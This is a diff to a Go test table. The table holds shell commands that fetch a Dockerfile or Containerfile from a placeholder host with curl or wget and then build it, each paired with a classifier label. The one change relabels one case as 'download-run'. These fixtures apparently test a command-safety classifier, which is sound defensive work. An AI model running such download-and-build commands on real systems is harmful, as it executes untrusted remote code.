@@ -12,7 +12,7 @@ var fx20d3ImageBuildCases = []doesCase{
 	{`wget -O Containerfile https://x.example.net/d; podman build .`, "cmd.unreadable"},
 	{`curl -so Dockerfile https://x.example.net/d && buildah bud -t x .`, "cmd.unreadable"},
 	{`curl -so Dockerfile https://x.example.net/d && docker compose up --build`, "cmd.unreadable"},
-	{`curl -so docker/api.Dockerfile https://x.example.net/d && docker build -f docker/api.Dockerfile .`, "cmd.unreadable"},
+	{`curl -so docker/api.Dockerfile https://x.example.net/d && docker build -f docker/api.Dockerfile .`, "cmd.download-run"},
 	{`curl -so Dockerfile https://x.example.net/d && docker image build .`, "cmd.unreadable"},
 	{`curl -s https://x.example.net/d > Dockerfile && docker build .`, "cmd.unreadable"},
 	{`cat /tmp/d > Dockerfile && docker build .`, "cmd.unreadable"},
